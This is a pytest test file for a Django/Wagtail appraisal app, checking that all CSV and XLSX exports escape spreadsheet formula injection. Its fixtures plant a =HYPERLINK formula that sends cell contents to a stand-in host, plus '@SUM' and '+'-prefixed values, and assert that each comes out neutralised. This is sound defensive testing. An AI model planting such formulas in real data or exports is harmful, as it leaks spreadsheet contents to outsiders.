"""Spreadsheet formula injection: every CSV/XLSX cell we write shows what was typed."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth.models import Group
from django.urls import NoReverseMatch, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets

from penilaian.ekspor import AWALAN_RUMUS, baris_aman, sel_aman, tulis_csv
from situs import peran
from tests.penilaian import pabrik
from tests.simulasi.conftest import kasus_demo, periode_aktif  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

RUMUS = '=HYPERLINK("https://contoh.invalid/?d="&A1,"klik")'
AKAR = Path(__file__).resolve().parents[2]


def _aman(sel) -> bool:
    return not (isinstance(sel, str) and sel.startswith(AWALAN_RUMUS))


@pytest.mark.parametrize("awal", ["=", "+", "-", "@", "\t", "\r"])
def test_sel_aman_menetralkan_setiap_awalan_rumus(awal):
    assert sel_aman(f"{awal}1+1") == f"'{awal}1+1"


def test_sel_aman_membiarkan_angka_dan_teks_biasa():
    assert baris_aman([-5, 1.5, None, "Budi", "Kel. -A"]) == [-5, 1.5, None, "Budi", "Kel. -A"]
    assert tulis_csv(["=a"], [["@b", 3]]).splitlines() == ["'=a", "'@b,3"]


def test_tidak_ada_penulis_csv_lain_di_kode():
    """Every CSV the project writes goes through ``tulis_csv``."""
    penulis = [
        str(p.relative_to(AKAR))
        for app in ("penilaian", "kursus", "simulasi", "sosialisasi", "situs")
        for p in (AKAR / app).rglob("*.py")
        if "csv.writer(" in p.read_text(encoding="utf-8")
    ]
    assert penulis == ["penilaian/ekspor.py"]


@pytest.fixture
def pegawai_jahat():
    h = pabrik.hierarki()
    h.staf.nama = RUMUS
    h.staf.jabatan = "@SUM(A1:A9)"
    h.staf.save()
    h.staf.unit.nama = "+62 Kelurahan"
    h.staf.unit.save()
    pabrik.skp_lengkap(h.staf)
    return h


@pytest.fixture
def admin(pegawai_jahat):
    user = pabrik.PenggunaFactory(username="admin.ekspor", is_staff=True)
    user.groups.add(Group.objects.get(name=peran.ADMIN_KEPEGAWAIAN))
    return user


def test_ekspor_xlsx_unit(client, pegawai_jahat, admin):
    client.force_login(admin)
    respons = client.get(f"/penilaian/unit/{pegawai_jahat.staf.unit.kode}/ekspor.xlsx")
    assert respons.status_code == 200
    buku = load_workbook(io.BytesIO(respons.content))
    sel = [c for baris in buku.active.iter_rows(values_only=True) for c in baris]
    assert "'" + RUMUS in sel
    assert "'@SUM(A1:A9)" in sel
    assert all(_aman(c) for c in sel)


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_ekspor_admin_pegawai(client, pegawai_jahat, admin, format_):
    client.force_login(admin)
    respons = client.get(f"/admin/pegawai/?export={format_}")
    assert respons.status_code == 200
    isi = b"".join(respons.streaming_content) if respons.streaming else respons.content
    if format_ == "csv":
        sel = [c for baris in csv.reader(io.StringIO(isi.decode())) for c in baris]
    else:
        lembar = load_workbook(io.BytesIO(isi)).active
        sel = [c for baris in lembar.iter_rows(values_only=True) for c in baris]
    assert "'" + RUMUS in sel
    assert "'@SUM(A1:A9)" in sel
    assert "'+62 Kelurahan" in sel
    assert all(_aman(c) for c in sel)


def _viewset_ekspor():
    # Wagtail fills its viewset registry when the admin's URLconf is first loaded.
    get_resolver().url_patterns  # noqa: B018
    return [v for v in viewsets.viewsets if getattr(v, "list_export", None)]


def test_setiap_ekspor_wagtail_melewati_sel_aman():
    daftar = _viewset_ekspor()
    assert len(daftar) >= 10
    assert SpreadsheetExportMixin.preprocess_field_value.sel_aman
    for v in daftar:
        kelas = v.index_view_class
        assert getattr(kelas.preprocess_field_value, "sel_aman", False), v


def _url_daftar(viewset) -> str | None:
    """The listing URL; ``None`` for Wagtail's page explorer, which needs a parent page."""
    for nama in ("index", "list"):
        try:
            return reverse(viewset.get_url_name(nama))
        except NoReverseMatch:
            continue
    return None


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_setiap_ekspor_admin_terbuka_dan_aman(client, pegawai_jahat, format_):
    client.force_login(pabrik.PenggunaFactory(username="super", is_staff=True, is_superuser=True))
    urls = [u for u in map(_url_daftar, _viewset_ekspor()) if u]
    assert len(urls) >= 10
    for url in urls:
        respons = client.get(f"{url}?export={format_}")
        assert respons.status_code == 200, url
        isi = b"".join(respons.streaming_content) if respons.streaming else respons.content
        if format_ == "csv":
            sel = [c for b in csv.reader(io.StringIO(isi.decode())) for c in b]
        else:
            sel = [
                c
                for b in load_workbook(io.BytesIO(isi)).active.iter_rows(values_only=True)
                for c in b
            ]
        assert all(_aman(c) for c in sel), url


def test_ekspor_laporan_simulasi(client, kasus_demo, buat_pengguna):  # noqa: F811
    from simulasi import services
    from tests.simulasi.conftest import jawaban_baik

    kasus = kasus_demo["paten-adminduk"]
    peserta = buat_pengguna("Peserta", username="+1+1")
    services.percobaan_simpan(kasus=kasus, pengguna=peserta, jawaban=jawaban_baik())
    client.force_login(buat_pengguna("Pelatih"))
    url = reverse("simulasi_laporan_kasus", args=[kasus.pk])
    teks = client.get(url, {"ekspor": "csv"}).content.decode()
    assert re.search(r"^[^,]*,'\+1\+1,", teks, re.MULTILINE)
    buku = load_workbook(io.BytesIO(client.get(url, {"ekspor": "xlsx"}).content))
    sel = [c for b in buku["Percobaan"].iter_rows(values_only=True) for c in b]
    assert "'+1+1" in sel
